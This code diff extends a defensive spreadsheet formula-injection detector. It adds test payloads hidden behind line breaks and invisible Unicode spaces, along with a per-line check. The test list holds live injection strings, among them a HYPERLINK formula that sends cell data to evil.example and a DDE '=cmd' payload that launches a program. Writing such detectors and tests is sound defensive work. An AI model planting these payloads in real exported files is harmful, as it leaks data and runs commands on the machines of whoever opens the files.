@@ -26,8 +26,14 @@ HOSTILE = [
     "=1+1", "+1+1", "-1+1", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "  =1+1", "\u00a0-2+3",
     "Jansen;=HYPERLINK(\"http://evil.example/?\"&A1)", "Jansen,=1+1", "a; @SUM(1)",
     "=cmd|' /C calc'!A0", "-", "x;\t=1+1",
+    # red-team 18: after a line break in the value (a reader that does not keep a quoted
+    # value's lines together starts a row there), and after the other Unicode spaces and
+    # the invisible ones
+    "Jansen\n=HYPERLINK(\"http://evil.example/?\"&A1)", "a\n\n@SUM(1)", "a\n -1+1",
+    "\u202f=1+1", "\ufeff=1+1", "\u205f+1", "\u2060@SUM(1)", "x;\u1680=1",
 ]
-SPACES = " \u00a0\u2000\u2001\u2002\u2003\u2004\u2005\u2006\u2007\u2008\u2009\u200a\u200b\u3000"
+SPACES = (" \u00a0\u1680\u2000\u2001\u2002\u2003\u2004\u2005\u2006\u2007\u2008\u2009\u200a"
+          "\u200b\u202f\u205f\u2060\u3000\ufeff")
 
 
 def runs_as_formula(cell: str) -> bool:
@@ -37,6 +43,9 @@ def runs_as_formula(cell: str) -> bool:
         parts = [q for p in parts for q in p.split(sep)]
     for i, part in enumerate(parts):
         if part[:1] in ("\t", "\r", "\n"):
+            return True
+        # each line of a value, for a reader that does not keep them together
+        if any(runs_as_formula(line) for line in re.split(r"\r\n?|\n", part)[1:] if line):
             return True
         visible = part.lstrip(SPACES)
         if visible[:1] in FORMULA_START and not visible.startswith("'"):
